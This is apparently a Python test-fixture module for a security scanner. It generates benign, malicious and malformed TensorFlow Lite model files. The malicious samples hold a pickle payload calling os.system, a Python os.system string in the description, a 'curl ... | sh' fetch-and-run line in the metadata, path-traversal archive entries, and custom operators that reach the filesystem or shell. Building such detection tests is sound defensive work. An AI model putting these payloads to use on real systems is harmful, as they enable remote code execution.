"""TensorFlow Lite models: what converters write, operators that reach out, and tables that lie."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from tests.scanning.flat import Number, Part, finished, numbers, raw_bytes, table, tables, text
from tests.scanning.sample import Sample, benign, malformed, malicious

FLOAT32, INT8, STRING, INT4 = 0, 9, 5, 17
FULLY_CONNECTED, CUSTOM = 9, 32


def code(builtin: int, custom: str = "") -> Part:
    fields: dict[int, Number | Part] = {
        0: Number(min(builtin, 127), 1),
        2: Number(1),
        3: Number(builtin),
    }
    return table({**fields, 1: text(custom)} if custom else fields)


def tensor(name: str, shape: list[int], buffer: int, kind: int = FLOAT32) -> Part:
    return table({0: numbers(*shape), 1: Number(kind, 1), 2: Number(buffer), 3: text(name)})


def operator(index: int = 0, inputs: tuple[int, ...] = (0, 1, -1)) -> Part:
    return table({0: Number(index), 1: numbers(*inputs), 2: numbers(2), 5: raw_bytes(b"options")})


def model(
    *codes: Part,
    weights: bytes = bytes(64),
    shape: tuple[int, ...] = (4, 4),
    kind: int = FLOAT32,
    description: str = "MLIR Converted.",
    metadata: bytes = b"1.14.0\0\0",
    used: Part | None = None,
    buffer: int = 1,
) -> bytes:
    tensors = tables(
        tensor("x", [1, 4], 0), tensor("w", list(shape), buffer, kind), tensor("y", [1, 4], 0)
    )
    graph = table(
        {0: tensors, 1: numbers(0), 2: numbers(2), 3: tables(used or operator()), 4: text("main")}
    )
    root = table(
        {
            0: Number(3),
            1: tables(*(codes or (code(FULLY_CONNECTED),))),
            2: tables(graph),
            3: text(description),
            4: tables(table({}), table({0: raw_bytes(weights)}), table({0: raw_bytes(metadata)})),
            6: tables(table({0: text("min_runtime_version"), 1: Number(2)})),
            7: tables(
                table({0: tables(table({0: text("x"), 1: Number(0)})), 2: text("serving_default")})
            ),
        }
    )
    return finished(root, b"TFL3")


def with_archive(content: bytes, name: str, member: bytes) -> bytes:
    target = io.BytesIO()
    target.write(content)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), member)
    return target.getvalue()


KNOWN = [
    "TFLite_Detection_PostProcess",
    "FlexErf",
    "FlexSaveV2",
    "MaxPoolingWithArgmax2D",
    "HashTable",
]
REACHING = ["FlexReadFile", "FlexWriteFile", "FlexPyFunc", "FlexEagerPyFunc", "FlexMatchingFiles", "FlexMyOp", "ShellExecute",
            "LoadLibrary", "MyOwnOperator", "flex:ReadFile", "FlexDebugIdentityV2", "FlexRpcCall"]  # fmt: skip


def _benign() -> Iterator[Sample]:
    yield benign("plain", "model.tflite", model())
    for name in KNOWN:
        yield benign(f"operator-{name.lower()}", "model.tflite", model(code(CUSTOM, name)))
    yield benign(
        "labels-behind", "model.tflite", with_archive(model(), "labels.txt", b"cat\ndog\n")
    )
    yield benign("small-numbers", "model.tflite", model(weights=bytes(8), kind=INT4))
    yield benign(
        "text-tensor",
        "model.tflite",
        model(weights=b"\1\0\0\0\x0c\0\0\0\x0f\0\0\0cat", kind=STRING),
    )


def _malicious() -> Iterator[Sample]:
    for name in REACHING:
        yield malicious(
            f"operator-{name.lower()}",
            "model.tflite",
            model(code(FULLY_CONNECTED), code(CUSTOM, name)),
        )
    yield malicious(
        "pickle-behind",
        "model.tflite",
        with_archive(model(), "x.pkl", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."),
    )
    yield malicious("program-behind", "model.tflite", model() + b"\x7fELF" * 3000)
    yield malicious(
        "program-in-the-description",
        "model.tflite",
        model(description="__import__('os').system('id')"),
    )
    yield malicious(
        "program-in-the-metadata",
        "model.tflite",
        model(metadata=b"curl http://203.0.113.18/s | sh\0"),
    )
    yield malicious(
        "upwards-behind", "model.tflite", with_archive(model(), "../../labels.txt", b"cat\n")
    )


def _malformed() -> Iterator[Sample]:
    whole = model()
    yield malformed("cut", "model.tflite", whole[: len(whole) // 2])
    yield malformed("cut-at-the-end", "model.tflite", whole[:-40])
    yield malformed("mark-only", "model.tflite", b"\x1c\0\0\0TFL3")
    yield malformed("root-outside", "model.tflite", b"\xff\xff\xff\x7f" + whole[4:])
    yield malformed("root-at-itself", "model.tflite", bytes(4) + whole[4:])
    yield malformed("short-weights", "model.tflite", model(weights=bytes(60)))
    yield malformed("negative-shape", "model.tflite", model(shape=(-4, 4)))
    yield malformed("no-such-buffer", "model.tflite", model(buffer=99))
    yield malformed("no-such-type", "model.tflite", model(kind=77))
    yield malformed("no-such-operator", "model.tflite", model(used=operator(7)))
    yield malformed("no-such-tensor", "model.tflite", model(used=operator(0, (0, 99))))
    yield malformed("operator-of-no-number", "model.tflite", model(code(9999)))
    yield malformed("zeros", "model.tflite", b"\x08\0\0\0TFL3" + bytes(200))


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    yield from _benign()
    yield from _malicious()
    yield from _malformed()
